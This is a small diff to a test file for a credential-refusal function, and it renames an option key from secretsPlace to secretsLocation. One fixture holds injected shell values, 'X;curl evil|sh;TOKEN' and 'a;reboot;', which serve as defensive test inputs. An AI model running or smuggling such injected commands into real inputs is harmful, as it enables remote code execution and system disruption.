@@ -57,7 +57,7 @@ describe('credentials in what somebody gives', () => {
 
   it('puts nothing into a line for a shell that was given by somebody', () => {
     const given = { env: { 'X;curl evil|sh;TOKEN': `ghp_${A}` } };
-    const refusal = () => refuseCredentials('a;reboot;', given, { place: 'cluster', secretsPlace: 'mcp' });
+    const refusal = () => refuseCredentials('a;reboot;', given, { place: 'cluster', secretsLocation: 'mcp' });
     expect(refusal)
       .to.throw(UserError)
       .with.property('hint')
@@ -96,7 +96,7 @@ describe('credentials in what somebody gives', () => {
     const secret = `ghp_${A}`;
     const refusal = (place: 'folder' | 'cluster') => {
       try {
-        refuseCredentials('github', { env: { GITHUB_TOKEN: secret } }, { place, secretsPlace: 'mcp' });
+        refuseCredentials('github', { env: { GITHUB_TOKEN: secret } }, { place, secretsLocation: 'mcp' });
       } catch (error) {
         if (error instanceof UserError) return error;
       }
